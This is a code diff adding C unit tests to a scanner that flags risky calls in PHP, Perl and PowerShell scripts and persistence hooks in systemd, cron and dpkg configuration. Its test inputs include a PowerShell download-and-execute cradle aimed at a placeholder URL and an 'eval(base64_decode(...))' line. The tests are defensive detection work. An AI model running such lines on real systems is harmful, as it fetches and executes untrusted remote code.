@@ -156,6 +156,38 @@ Test(feature_script, what_a_shell_script_can_do)
                      "call run=/opt/x/helper 1 @0xce\n");
 }
 
+Test(feature_script, what_php_perl_and_powershell_can_do)
+{
+    static const struct {
+        const char *name, *text, *want;
+    } cases[] = {
+        {"x.php",
+         "exec() in a page\n<?php // system('x')\n/* curl_init() */ # mail()\nfunction exec_it() {}\n"
+         "$a = \"shell_exec('x')\"; $o->exec($a); X::mail($a);\n$h = <<<EOT\nfsockopen('h')\nEOT;\n"
+         "eval(base64_decode($a));\n$b = `id`; ?>passthru('x')<?php curl_exec($c);\n",
+         "call code=eval 1 @0xaa\ncall decode=base64_decode 1 @0xaf\ncall process=` 1 @0xc8\n"
+         "call network=curl_exec 1 @0xe3\n"},
+        {"run",
+         "#!/usr/bin/perl\nuse LWP::UserAgent; use strict; use MIME::Base64;\n# system('x')\n=head1 "
+         "NAME\n\nexec('x')\n\n"
+         "=cut\nmy %h = (system => 1); $h{exec}; sub open { }\nprint \"exec('x')\";\nsystem(\"id\"); eval { 1 };\n"
+         "eval $code; my $k = $ENV{HOME};\n__END__\nexec('x');\n",
+         "call network=LWP::UserAgent 1 @0x14\ncall decode=MIME::Base64 1 @0x34\ncall process=system 1 @0xae\n"
+         "call code=eval 1 @0xc8\ncall environment=ENV 1 @0xdd\n"},
+        {"x.ps1",
+         "# iex\n<# Invoke-Expression #>\n$iex = 'Start-Process'; $t = @\"\ncurl x\n\"@\n"
+         "IEX ((New-Object System.Net.WebClient).DownloadString('http://x'))\n[Convert]::FromBase64String($t)\n",
+         "call code=IEX 1 @0x48\ncall network=System.Net.WebClient 1 @0x59\ncall network=DownloadString 1 @0x6f\n"
+         "call decode=FromBase64String 1 @0x96\n"},
+        {"x.txt", "exec('x'); curl_init(); Invoke-Expression\n", ""},
+    };
+    for (size_t i = 0; i < TRN_ARRAY_SIZE(cases); i++) {
+        TRN_AUTO(facts_done) struct facts s;
+        facts_of(&s, trn_str_of(cases[i].text), cases[i].name, TRN_FEATURE_CALL);
+        EXPECT_FACTS(&s, cases[i].want);
+    }
+}
+
 Test(feature_script, how_it_is_written)
 {
     TRN_AUTO(facts_done) struct facts s;
@@ -218,6 +250,10 @@ Test(feature_service, by_place_and_content)
         {"etc/cron.d/a", "# x\n* * * * * root /usr/bin/a\n", "service cron=a: * * * * * root /usr/bin/a 1 @0x4\n"},
         {"etc/xdg/autostart/a.desktop", "[Desktop Entry]\nExec=a %u\nTryExec=b\n",
          "service autostart=a.desktop: a %u 1 @0x10\n"},
+        {"etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPre=/x\nNice=1\n",
+         "service systemd=x.conf: /x 1 @0xa\n"},
+        {"etc/systemd/journald.conf.d/x.conf", "[Journal]\nStorage=none\n", ""},
+        {"etc/dpkg/dpkg.cfg.d/x", "# post-invoke\npost-invoke=/x\n", "service apt-hook=x: post-invoke=/x 1 @0xe\n"},
         {"usr/share/applications/a.desktop", "[Desktop Entry]\nExec=a %u\n", ""},
         {"usr/share/doc/a/examples/systemd/a.service", "[Service]\nExecStart=/x\n", ""},
         {"usr/share/dbus-1/system-services/a.service", "[D-BUS Service]\nName=a\nExec=/usr/lib/a\nUser=root\n",
